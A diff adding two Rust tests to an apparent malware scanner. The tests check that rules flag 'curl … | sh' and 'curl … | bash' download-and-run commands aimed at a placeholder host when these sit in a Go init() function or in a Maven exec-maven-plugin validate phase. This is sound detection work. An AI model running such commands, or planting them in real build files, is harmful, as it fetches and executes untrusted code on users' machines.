@@ -305,3 +305,39 @@ fn a_function_that_saves_a_download_as_a_program_and_runs_it_is_a_dropper() {
         &[&archive],
     );
 }
+
+#[test]
+fn a_go_init_body_is_import_time_even_after_the_same_command_in_a_function() {
+    let pipe = "\"curl -s https://x.example/a | /bin/sh\"";
+    let helper = format!("func Setup() {{ exec.Command(\"sh\", \"-c\", {pipe}).Run() }}\n");
+    let init = format!("func init() {{\n\texec.Command(\"sh\", \"-c\", {pipe}).Start()\n}}\n");
+    let in_init = format!("package x\n\n{helper}\n{init}");
+    let only_helper = format!("package x\n\n{helper}");
+    fires_only_on(
+        "correlate/import-time-network",
+        "x/x.go",
+        &[&in_init],
+        &[&only_helper],
+    );
+}
+
+#[test]
+fn the_pom_every_jar_carries_is_data_but_a_declared_plugin_runs() {
+    let fetch = "<argument>curl -s http://x.example/p | bash</argument>";
+    let plain = format!(
+        "<project><build><plugins><plugin><configuration>{fetch}</configuration></plugin></plugins></build></project>"
+    );
+    let executed = format!(
+        "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><executions><execution><phase>validate</phase><goals><goal>exec</goal></goals><configuration>{fetch}</configuration></execution></executions></plugin></plugins></build></project>"
+    );
+    let copied = analyse_file("META-INF/maven/x/y/pom.xml", &plain);
+    let pipe = copied
+        .iter()
+        .find(|f| f.rule == "download/pipe-to-shell")
+        .expect("the pipe is still reported");
+    assert!(pipe.message.contains("[test/doc]"), "{}", pipe.message);
+    assert_has(
+        &rules_for_file("pom.xml", &executed),
+        "correlate/install-time-network",
+    );
+}
